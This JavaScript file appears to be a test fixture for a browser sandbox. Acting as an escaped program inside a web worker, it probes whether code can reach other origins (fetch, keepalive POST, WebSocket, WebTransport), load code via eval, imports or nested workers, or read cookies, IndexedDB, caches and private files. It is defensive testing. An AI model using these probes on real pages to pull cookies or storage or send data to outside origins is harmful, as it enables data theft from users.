/* oxlint-disable no-eval, typescript/no-implied-eval, unicorn/prefer-add-event-listener, unicorn/require-post-message-target-origin -- an attacker keeps no house rules */
// Runs in place of the sandboxed program in the browser, as an attacker who has broken out of the interpreter: a worker with
// everything that a worker has. Tries to reach OTHER (another origin) and OWN (the page's), and says what it has found.

const probes = {
  'own origin by fetch': async () => (await fetch('OWN/fetch', { credentials: 'include' })).text(),
  'own origin without CORS': async () =>
    (await fetch('OWN/no-cors', { mode: 'no-cors', method: 'POST', body: 'x' })).type,
  'other origin by fetch': async () => (await fetch('OTHER/fetch')).text(),
  'other origin without CORS': async () => (await fetch('OTHER/no-cors', { mode: 'no-cors' })).type,
  'other origin by keepalive': async () =>
    (await fetch('OTHER/keepalive', { method: 'POST', keepalive: true })).text(),
  'own origin by request': () => request('OWN/xhr'),
  'other origin by request': () => request('OTHER/xhr'),
  'web socket': () => opened(new WebSocket('OTHER/socket'.replace('http', 'ws'))),
  'server events': () => opened(new EventSource('OTHER/events')),
  'web transport': () => new WebTransport('OTHER/transport'.replace('http:', 'https:')).ready,
  'module of own origin': async () => (await import(['OWN', 'module.js'].join('/'))).default,
  'module of other origin': async () => (await import(['OTHER', 'module.js'].join('/'))).default,
  'module of a data URL': async () =>
    (await import(['data:text/javascript,export default ', '"sec" + "ret"'].join(''))).default,
  'classic script': () => importScripts('OWN/script.js'),
  'code from text': () => (0, eval)('"sec" + "ret"'),
  'function from text': () => Reflect.construct(Function, ['return "sec" + "ret"'])(),
  'timer from text': () =>
    new Promise((resolve) => {
      globalThis.report = resolve;
      setTimeout('report("secret")');
    }),
  'worker of own origin': () => report(new Worker('OWN/worker.js')),
  'worker of a blob': () =>
    report(new Worker(URL.createObjectURL(new Blob(['postMessage("secret")'])))),
  'network of a nested worker': () =>
    report(
      new Worker(
        'data:text/javascript,fetch("OTHER/nested").then((r) => r.text()).then(postMessage)',
      ),
    ),
  'shared worker': () => new SharedWorker('OWN/shared.js').port.start(),
  'service worker': () => navigator.serviceWorker.register('OWN/service.js'),
  database: () =>
    new Promise((resolve, reject) => {
      const open = indexedDB.open('page');
      open.onsuccess = () => resolve([...open.result.objectStoreNames].join());
      open.onerror = () => reject(open.error);
    }),
  caches: async () => (await (await caches.open('page')).match('OWN/secret')).text(),
  'private files': async () => {
    const root = await navigator.storage.getDirectory();
    return (await (await root.getFileHandle('secret')).getFile()).text();
  },
  cookies: async () => JSON.stringify(await cookieStore.getAll()),
  broadcast: () =>
    new Promise((resolve) => {
      const channel = new BroadcastChannel('page');
      channel.onmessage = ({ data }) => resolve(data);
      channel.postMessage('who is there?');
    }),
  'another run in the same frame': () =>
    new Promise((resolve) => {
      const channel = new BroadcastChannel('runs');
      channel.onmessage = ({ data }) => resolve(data);
      setInterval(() => channel.postMessage('secret'), 100);
    }),
  locks: async () => JSON.stringify((await navigator.locks.query()).held),
  fonts: async () => (await new FontFace('x', 'url(OTHER/font)').load()).status,
  'where it is': () => `${location.href.slice(0, 5)} ${self.origin}`,
};

function request(url) {
  const xhr = new XMLHttpRequest();
  xhr.open('GET', url, false);
  xhr.send();
  return xhr.responseText;
}

function opened(socket) {
  return new Promise((resolve, reject) => {
    socket.onopen = () => resolve('opened: secret');
    socket.onerror = () => reject(new Error('refused'));
  });
}

function report(worker) {
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error('refused'));
  });
}

async function tryAll() {
  const found = {};
  await Promise.all(
    Object.entries(probes).map(async ([name, probe]) => {
      const late = new Promise((resolve) => setTimeout(resolve, 1500, 'nothing'));
      try {
        found[name] = String(await Promise.race([probe(), late]));
      } catch (error) {
        found[name] = String(error).slice(0, 120);
      }
    }),
  );
  return found;
}

/** Called by the worker's loader with its first message. */
export function begin({ ports: [port] }) {
  const say = (value) =>
    port.postMessage({ text: JSON.stringify(value), numbers: new Float64Array(0) });
  port.onmessage = async () => {
    const message = JSON.stringify(await tryAll());
    say({ kind: 'problem', problem: { code: 'python.probe', message, remedy: '' } });
  };
  say({ kind: 'ready' });
}
